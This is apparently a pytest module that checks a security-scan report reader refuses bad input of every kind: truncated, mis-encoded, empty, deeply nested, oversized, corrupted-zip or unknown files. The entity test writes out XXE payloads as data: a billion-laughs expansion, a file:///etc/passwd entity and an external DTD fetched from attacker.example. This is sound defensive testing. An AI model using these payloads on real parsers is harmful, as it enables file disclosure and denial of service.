"""Bad input of every format: refused with an id and a place, never a traceback, a hang or a part."""

from __future__ import annotations

import contextlib
import gzip
import io
import re
import zipfile
from pathlib import Path
from random import Random

import pytest

from poise.errors import ScanFormatError
from poise.scans import all_formats, open_source, summarise
from poise.scans.detect import detect
from scans.corpus import assert_refused, label, read_bytes, samples, syntax

EVERY_SAMPLE = pytest.mark.parametrize("sample", samples(), ids=label)
XML_SAMPLES = [sample for sample in samples() if syntax(sample) == "xml"]
JSON_SAMPLES = [sample for sample in samples() if syntax(sample) == "json"]
CSV_SAMPLES = [sample for sample in samples() if syntax(sample) == "csv"]
#: JSON of one value; a file of one record a line may be cut at the end of any line.
WHOLE_JSON = [sample for sample in JSON_SAMPLES if sample.suffix == ".json"]


def _original(sample: Path) -> tuple[int, int, str | None]:
    (summary,) = summarise(sample)
    return summary.findings, summary.records, summary.format


@EVERY_SAMPLE
def test_exactly_one_format_claims_a_sample(sample: Path) -> None:
    """Two claims would make the reader a matter of luck."""
    source = open_source(sample)
    claims = [one.name for one in all_formats() if one.syntax != "zip" and one.sniff(source.head)]
    assert len(claims) == 1, claims


def test_every_format_has_a_sample() -> None:
    """A format without a sample escapes all tests of this module."""
    seen = {detect(open_source(sample)).name for sample in samples()}
    assert {one.name for one in all_formats() if one.syntax != "zip"} - {"empty-json"} <= seen


@EVERY_SAMPLE
def test_packing_and_marks_change_nothing(sample: Path, tmp_path: Path) -> None:
    """The same report in gzip, zip, UTF-8 with a mark or UTF-16 is the same report."""
    data = sample.read_bytes()
    bundle = io.BytesIO()
    with zipfile.ZipFile(bundle, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("folder/report.bin", data)
    text = re.sub(r"(<\?xml[^>]*?) encoding=['\"][^'\"]*['\"]", r"\1", data.decode("utf-8"))
    for packed in (
        gzip.compress(data),
        gzip.compress(gzip.compress(data)),
        bundle.getvalue(),
        b"\xef\xbb\xbf" + data,
        text.encode("utf-16"),
        b"\xfe\xff" + text.encode("utf-16-be"),
    ):
        summary = read_bytes(packed, tmp_path)
        assert (summary.findings, summary.records, summary.format) == _original(sample)


@EVERY_SAMPLE
def test_a_cut_report_is_never_read_as_a_part(sample: Path, tmp_path: Path) -> None:
    """A report that broke off would leave out findings without a word."""
    data = sample.read_bytes().rstrip()
    whole = sample in XML_SAMPLES or sample in WHOLE_JSON
    step = max(1, len(data) // 60)
    for length in (*range(1, len(data), step), len(data) - 1):
        summary = read_bytes(data[:length], tmp_path)
        if whole:
            assert_refused(summary)


@EVERY_SAMPLE
def test_a_cut_archive_is_refused(sample: Path, tmp_path: Path) -> None:
    """A download that broke off must not look like a small report."""
    packed = gzip.compress(sample.read_bytes())
    for length in (len(packed) // 2, len(packed) - 9, len(packed) - 1):
        assert_refused(read_bytes(packed[:length], tmp_path), "E402")


@EVERY_SAMPLE
def test_a_wrong_byte_is_told_with_its_place(sample: Path, tmp_path: Path) -> None:
    """Replaced characters would change names and ids unseen."""
    data = sample.read_bytes()
    # Inside a word of the second half, where it is text in every syntax.
    found = re.compile(rb"[a-z]{3}").search(data, len(data) // 2)
    assert found
    broken = data[: found.start() + 1] + b"\xff" + data[found.start() + 1 :]
    summary = read_bytes(broken, tmp_path)
    if sample in CSV_SAMPLES:
        assert any(fault.id == "E416" for fault in summary.faults) or summary.refused
    else:
        assert_refused(summary, "E403", "E405", "E406")
    # Never valid in UTF-8, nor defined in Windows-1252.
    assert_refused(read_bytes(broken.replace(b"\xff", b"\x81"), tmp_path), "E403", "E405", "E406")


@EVERY_SAMPLE
def test_no_format_stumbles_over_another_tool_s_file(sample: Path) -> None:
    """A wrong --format is a mistake of the user, not of the program."""
    own = detect(open_source(sample)).name
    for one in all_formats():
        if one.name != own:
            for summary in summarise(sample, format=one.name):
                assert summary.refused or summary.faults or not summary.findings or one.syntax == "csv"


@pytest.mark.parametrize(
    "content", [b"", b" ", b"\n\n", b"\xef\xbb\xbf", b"\xff\xfe", gzip.compress(b"", mtime=0)]
)
def test_nothing_is_not_a_report(content: bytes, tmp_path: Path) -> None:
    """An empty export is a failed export, not a clean bill."""
    assert_refused(read_bytes(content, tmp_path), "E401", "E404")


@pytest.mark.parametrize(
    ("content", "told"),
    [
        (b"<!DOCTYPE html><html><body>Login</body></html>", "an HTML page"),
        (b'{"spdxVersion": "SPDX-2.3"}', "SPDX"),
        (b'{"surprise": 1, "other": {"inner": 2}}', "the keys surprise, other"),
        (b'[{"surprise": [1]}]', "a JSON array of objects with the keys surprise"),
        (b"<?xml version='1.0'?><!-- c --><weather/>", "the root element <weather>"),
        (b"%PDF-1.7 ...", "a PDF"),
        (b"PAR1\x00\x00", "a Parquet table"),
        (b"\x00\x01\x02\x03\x04", "binary data"),
        (b"name,age\nEve,3\n", "text that begins 'name,age'"),
    ],
)
def test_an_unknown_file_is_told_for_what_it_is(content: bytes, told: str, tmp_path: Path) -> None:
    """People pass the wrong file; the fault should let them see it."""
    summary = read_bytes(content, tmp_path)
    assert_refused(summary, "E404")
    assert told in summary.faults[0].message


@pytest.mark.parametrize("sample", XML_SAMPLES, ids=label)
@pytest.mark.parametrize(
    "declaration",
    [
        '<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">',
        '<!ENTITY a SYSTEM "file:///etc/passwd">',
        '<!ENTITY % a SYSTEM "https://attacker.example/x.dtd"> %a;',
    ],
)
def test_entities_are_refused_before_they_expand(sample: Path, declaration: str, tmp_path: Path) -> None:
    """Entities are how a small XML file becomes a large one, or another file."""
    text = re.sub(r"<\?xml.*?\?>|<!DOCTYPE[^>]*>", "", sample.read_text(encoding="utf-8"))
    root = re.search(r"<([A-Za-z_][\w.-]*)", text)
    assert root
    assert_refused(
        read_bytes(f"<!DOCTYPE {root[1]} [{declaration}]>\n{text.lstrip()}".encode(), tmp_path), "E410"
    )


@pytest.mark.parametrize("sample", XML_SAMPLES, ids=label)
def test_deep_xml_is_refused(sample: Path, tmp_path: Path) -> None:
    """A report nested 100,000 deep is an attack on the reader's stack."""
    text = sample.read_text(encoding="utf-8")
    for close in dict.fromkeys((text.rindex("</"), text.index("</"), len(text) // 2)):
        place = text.rindex("</", 0, close + 2)
        deep = f"{text[:place]}{'<a>' * 100_000}{'</a>' * 100_000}{text[place:]}"
        assert_refused(read_bytes(deep.encode(), tmp_path), "E409", "E405")


@pytest.mark.parametrize("sample", JSON_SAMPLES, ids=label)
def test_deep_json_is_refused(sample: Path, tmp_path: Path) -> None:
    """Deep arrays in place of a value must not exhaust the stack, wherever they stand."""
    data = sample.read_text(encoding="utf-8")
    values = [found.end() for found in re.finditer(r'":\s*', data)]
    for place in values[:: max(1, len(values) // 6)]:
        deep = f'{data[:place]}{"[" * 100_000}{"]" * 100_000}, "z": {data[place:]}'
        summary = read_bytes(deep.encode(), tmp_path)
        assert summary.refused or summary.faults


@EVERY_SAMPLE
def test_a_line_of_ten_megabytes_is_survived(sample: Path, tmp_path: Path) -> None:
    """One endless line is how a broken export looks; it costs bounded time and memory."""
    _survive_long_line(sample, tmp_path, 10_000_000)


@pytest.mark.long
@EVERY_SAMPLE
def test_a_line_of_hundred_megabytes_is_survived(sample: Path, tmp_path: Path) -> None:
    """The size that the issue names."""
    _survive_long_line(sample, tmp_path, 100_000_000)


def _survive_long_line(sample: Path, folder: Path, size: int) -> None:
    data = sample.read_bytes()
    found = re.compile(rb"[a-z]{3}").search(data, len(data) // 2)
    assert found
    place = found.start() + 1
    summary = read_bytes(data[:place] + b"x" * size + data[place:], folder)
    assert summary.refused == (summary.findings == 0 and bool(summary.faults))


@pytest.mark.parametrize("seed", range(150))
def test_a_damaged_zip_is_a_fault(tmp_path: Path, seed: int) -> None:
    """A zip's directory promises places, sizes and names; damaged, it may promise anything."""
    random = Random(seed)
    bundle = io.BytesIO()
    with zipfile.ZipFile(bundle, "w") as archive:
        for name in ("a.csv", "b.csv")[: random.randint(1, 2)]:
            archive.writestr(name, "host,cve\nweb1,CVE-2024-1\n")
    data = bytearray(bundle.getvalue())
    for _ in range(random.randint(1, 6)):
        data[random.randrange(len(data))] = random.randrange(256)
    path = tmp_path / "scan.zip"
    path.write_bytes(data)
    with contextlib.suppress(ScanFormatError):
        summarise(path)
